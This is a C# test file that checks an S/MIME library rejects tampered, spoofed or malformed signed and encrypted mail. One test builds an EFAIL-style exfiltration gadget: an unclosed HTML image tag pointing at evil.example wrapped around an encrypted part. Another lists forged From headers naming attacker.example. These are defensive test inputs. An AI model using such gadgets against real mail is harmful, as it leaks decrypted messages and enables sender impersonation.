using System.Text;
using Chancery.Protection.Smime.Opening;
using Chancery.Protection.Tests.Support;

namespace Chancery.Protection.Tests.Smime.Opening;

/// <summary>Bad input B40 to B54 of the table, as far as opening a message answers it. Each test names its numbers.</summary>
public sealed class BadCryptoTests
{
    private static readonly KnownKeys Keys = KnownKeys.Of(Letter.Anna, Letter.Bernd);

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task B40_a_changed_body_is_invalid(bool opaque)
    {
        var mail = await Letter.MakeAsync(Keys, encrypt: false, opaque: opaque);
        var changed = opaque ? Changed(mail, mail.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 90) : mail.Replace("line one", "line two", StringComparison.Ordinal);

        await using var opened = await OpenAsync(changed);

        Assert.NotEqual(Verdict.Valid, SignatureSummary.Of(opened)?.Verdict);
        Assert.True(opaque || SignatureSummary.Of(opened) is { Verdict: Verdict.Invalid, Reason: "the content was changed after it was signed" });
    }

    [Fact]
    public async Task B40_a_cut_signature_is_invalid()
    {
        var mail = await Letter.MakeAsync(Keys, encrypt: false);
        var at = mail.IndexOf("smime.p7s\"\r\n\r\n", StringComparison.Ordinal) + 200;

        await using var opened = await OpenAsync(mail[..at] + "\r\n--b0undary--\r\n");

        Assert.Equal(Verdict.Invalid, SignatureSummary.Of(opened)?.Verdict);
    }

    [Theory]
    [InlineData("From: mallory@attacker.example")]
    [InlineData("From: anna@acme.example.attacker.example")]
    [InlineData("From: anna@acme.example, mallory@attacker.example")]
    [InlineData("From: \"anna@acme.example\" <mallory@attacker.example>")]
    [InlineData("From: mallory@attacker.example\r\nSender: anna@acme.example")]
    public async Task B41_the_signer_is_not_From(string from)
    {
        var mail = (await Letter.MakeAsync(Keys, encrypt: false)).Replace("From: " + Letter.Anna, from, StringComparison.Ordinal);

        await using var opened = await OpenAsync(mail);

        var summary = SignatureSummary.Of(opened)!;
        Assert.Equal((Verdict.Invalid, Letter.Anna), (summary.Verdict, summary.Signer));
        Assert.Contains("who is not the From address", summary.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task B42_a_signed_part_beside_others_signs_nothing()
    {
        var signed = (await Letter.MakeAsync(Keys, encrypt: false)).Split("MIME-Version: 1.0\r\n")[1];

        await using var opened = await OpenAsync(Mixed($"--x\r\n{signed}\r\n--x\r\nContent-Type: text/plain\r\n\r\nfooter\r\n--x--\r\n"));

        Assert.Empty(opened.Layers);
        Assert.Null(SignatureSummary.Of(opened));
    }

    [Fact]
    public async Task B42_a_third_part_in_a_signed_multipart_is_refused()
    {
        var mail = await Letter.MakeAsync(Keys, encrypt: false);

        await using var opened = await OpenAsync(mail.Replace("--b0undary--", "--b0undary\r\nContent-Type: text/html\r\n\r\n<p>more</p>\r\n--b0undary--", StringComparison.Ordinal));

        Assert.Equal(Verdict.Invalid, SignatureSummary.Of(opened)?.Verdict);
    }

    [Theory]
    [InlineData("aes-128-gcm")]
    [InlineData("aes-256-gcm")]
    [InlineData("aes-256-cbc")]
    public async Task B46_B47_a_change_anywhere_in_the_ciphertext_gives_nothing_or_is_marked(string content)
    {
        var mail = await Letter.MakeAsync(Keys, content: content);
        var body = mail.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4;
        for (var at = body + 600; at < mail.Length - 4; at += 97)
        {
            var scratch = new CountingScratch();
            await using var opened = await OpenAsync(Changed(mail, at), scratch);
            // What stands around a signed part may change under CBC; the part itself may not.
            Assert.True(!opened.IsDecrypted || Weaknesses.IsUnauthenticated(opened) || await opened.Innermost!.TextAsync() == Letter.Entity, $"at {at}");
            if (content.EndsWith("gcm", StringComparison.Ordinal))
                Assert.Equal(0, scratch.Kept);
        }
    }

    [Fact]
    public async Task B48_decrypted_by_CBC_without_a_signature_inside_is_unauthenticated()
    {
        await using var opened = await OpenAsync(await Letter.MakeAsync(Keys, sign: false, content: "aes-256-cbc"));
        await using var proven = await OpenAsync(await Letter.MakeAsync(Keys, sign: true, content: "aes-256-cbc"));
        await using var tagged = await OpenAsync(await Letter.MakeAsync(Keys, sign: false, content: "aes-256-gcm"));

        Assert.Equal([Weaknesses.Unauthenticated], Weaknesses.Of(opened));
        Assert.Empty(Weaknesses.Of(proven));
        Assert.Empty(Weaknesses.Of(tagged));
    }

    [Theory]
    [InlineData("multipart")]
    [InlineData("message")]
    public async Task B49_what_is_encrypted_inside_something_else_stays_closed(string around)
    {
        var encrypted = await Letter.MakeAsync(Keys);
        var entity = encrypted.Split("MIME-Version: 1.0\r\n")[1];
        var mail = around == "multipart"
            ? Mixed($"--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--x\r\n{entity}\r\n--x--\r\n")
            : $"From: mallory@attacker.example\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n{encrypted}";

        await using var opened = await OpenAsync(mail);

        Assert.Empty(opened.Layers);
        Assert.Equal(OpeningEnd.Complete, opened.End);
    }

    [Fact]
    public async Task B50_a_label_of_another_kind_of_encryption_is_refused()
    {
        var mail = await Letter.MakeAsync(Keys);

        await using var opened = await OpenAsync(mail.Replace("authEnveloped-data", "enveloped-data", StringComparison.Ordinal));

        Assert.Equal(OpeningEnd.NotDecrypted, opened.End);
    }

    [Fact]
    public async Task B53_without_a_key_nothing_is_opened_and_nothing_is_wrong()
    {
        await using var opened = await Opened.OpenAsync(Encoding.ASCII.GetBytes(await Letter.MakeAsync(Keys)), Keys.Without(Letter.Bernd), KnownKeys.Now);

        Assert.Equal((OpeningEnd.NoKey, null), (opened.End, SignatureSummary.Of(opened)));
    }

    [Fact]
    public async Task Layers_around_layers_end_at_a_limit()
    {
        var mail = Letter.Clear();
        for (var layer = 0; layer < 10; layer++)
            mail = (await Letter.MakeAsync(Keys, encrypt: false, message: mail)).Replace("b0undary", $"b0undary{layer}", StringComparison.Ordinal);

        await using var opened = await OpenAsync(mail);

        Assert.Equal((OpeningEnd.Unreadable, "more layers than may be"), (opened.End, opened.Problem));
        Assert.NotEqual(Verdict.Valid, SignatureSummary.Of(opened)?.Verdict);
    }

    [Fact]
    public async Task Whose_authority_is_not_known_nobody_can_tell()
    {
        var stranger = KnownKeys.Of("somebody@else.example");
        var mail = await Letter.MakeAsync(Keys, encrypt: false);

        await using var opened = await Opened.OpenAsync(Encoding.ASCII.GetBytes(mail), stranger, KnownKeys.Now);

        Assert.Equal(Verdict.Unknown, SignatureSummary.Of(opened)?.Verdict);
    }

    internal static string Changed(string mail, int at)
    {
        while (mail[at] is '\r' or '\n' or '=')
            at++;
        return mail[..at] + (mail[at] == 'A' ? 'B' : 'A') + mail[(at + 1)..];
    }

    private static string Mixed(string parts) => $"From: {Letter.Anna}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n{parts}";

    private static Task<OpenedSmime> OpenAsync(string mail, IScratchSpace? scratch = null) => Opened.OpenAsync(Encoding.ASCII.GetBytes(mail), Keys, KnownKeys.Now, scratch: scratch);

    /// <summary>Counts what was really kept.</summary>
    private sealed class CountingScratch : IScratchSpace
    {
        private readonly MemoryScratch _memory = new();

        public int Kept { get; private set; }

        public async Task<IScratch> KeepAsync(Func<Stream, Task> write, CancellationToken cancel)
        {
            var kept = await _memory.KeepAsync(write, cancel);
            Kept++;
            return kept;
        }
    }
}
